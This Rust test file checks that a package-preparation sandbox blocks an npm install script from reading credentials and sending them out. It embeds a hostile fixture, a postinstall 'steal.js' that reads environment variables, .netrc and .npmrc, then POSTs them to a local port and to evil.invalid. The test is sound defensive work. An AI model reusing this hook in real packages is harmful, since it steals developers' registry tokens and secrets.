//! What the install script of a package finds and where it can send it, when a preparation runs it.

use crate::packages::Served;
use crate::prepare_network::{FINE, Server};
use crate::support::{EVERYBODY, Env};
use std::process::Command;

// eslint/eslint-scope#39: a package whose install script sent tokens away.
#[test]
fn an_install_script_finds_no_credentials_and_can_send_them_nowhere() {
    let thief = Server::new(FINE);
    for who in EVERYBODY {
        let env = Env::of(who).var("NPM_TOKEN", "s3cret");
        for name in ["home/.netrc", "home/.npmrc"] {
            std::fs::write(env.path(name), "//registry.invalid/:_authToken=s3cret\n").unwrap();
        }
        let served = Served::new(&stealing(&env, thief.port));
        let dep = format!("{}dep.tgz", served.address());
        let wants = format!("\"dependencies\": {{\"dep\": \"{dep}\"}}");
        let entry =
            format!("{{\"version\": \"1.0.0\", \"resolved\": \"{dep}\", \"hasInstallScript\": true}}");
        env.write("package.json", format!("{{\"name\": \"own\", \"version\": \"1.0.0\", {wants}}}")).write(
            "package-lock.json",
            format!(
                "{{\"name\": \"own\", \"version\": \"1.0.0\", \"lockfileVersion\": 3, \"packages\": {{\
                 \"\": {{\"name\": \"own\", \"version\": \"1.0.0\", {wants}}}, \"node_modules/dep\": {entry}}}}}"
            ),
        );
        env.commit();
        let made = env
            .checkrun(&["prepare", "--runner", "node", "--format", "json", &served.allowed()])
            .expect(0)
            .json();
        let refused = made["prepared"][0]["network"]["refused"].to_string();
        assert!(refused.contains("evil.invalid:80"), "{made}");
        assert!(refused.contains(&format!("127.0.0.1:{}", thief.port)), "{made}");
        let stolen =
            env.checkrun(&["--runner", "node", "--", "cat", "node_modules/dep/stolen.json"]).expect(0).out();
        assert!(!stolen.contains("s3cret"), "{stolen}");
        assert_eq!(stolen, "{\"sent\":[\"ECONNREFUSED\",403,403]}");
    }
    assert!(thief.asked().is_empty(), "{:?}", thief.asked());
}

/// A package whose install script takes what it can and sends it away: straight, by the proxy to a port of this machine
/// that nobody named, and by the proxy to another host.
fn stealing(env: &Env, port: u16) -> std::path::PathBuf {
    let served = env.path("served");
    let package = served.join("package");
    std::fs::create_dir_all(&package).unwrap();
    let manifest =
        "{\"name\": \"dep\", \"version\": \"1.0.0\", \"scripts\": {\"postinstall\": \"node steal.js\"}}";
    std::fs::write(package.join("package.json"), manifest).unwrap();
    let steal = format!(
        "const fs = require('fs'), http = require('http');\n\
         const found = [JSON.stringify(process.env)];\n\
         for (const folder of [process.env.HOME, {home:?}]) for (const name of ['.netrc', '.npmrc']) {{\n\
           try {{ found.push(fs.readFileSync(folder + '/' + name, 'utf8')); }} catch {{}}\n}}\n\
         const got = found.join().match(/s3cret/g);\n\
         const send = (options) => new Promise((done) => {{\n\
           const out = http.request({{method: 'POST', ...options}}, (reply) => done(reply.statusCode));\n\
           out.on('error', (error) => done(error.code));\n  out.end(found.join());\n}});\n\
         const proxy = {{host: '127.0.0.1', port: 3128}};\n\
         (async () => {{\n\
           const sent = [await send({{host: '127.0.0.1', port: {port}}}),\n\
             await send({{...proxy, path: 'http://127.0.0.1:{port}/'}}), await send({{...proxy, path: 'http://evil.invalid/'}})];\n\
           fs.writeFileSync('stolen.json', JSON.stringify(got ? {{got, sent}} : {{sent}}));\n}})();\n",
        home = env.path("home").display().to_string(),
    );
    std::fs::write(package.join("steal.js"), steal).unwrap();
    let tar = Command::new("tar").args(["-czf", "dep.tgz", "package"]).current_dir(&served).status();
    assert!(tar.expect("tar").success());
    served
}
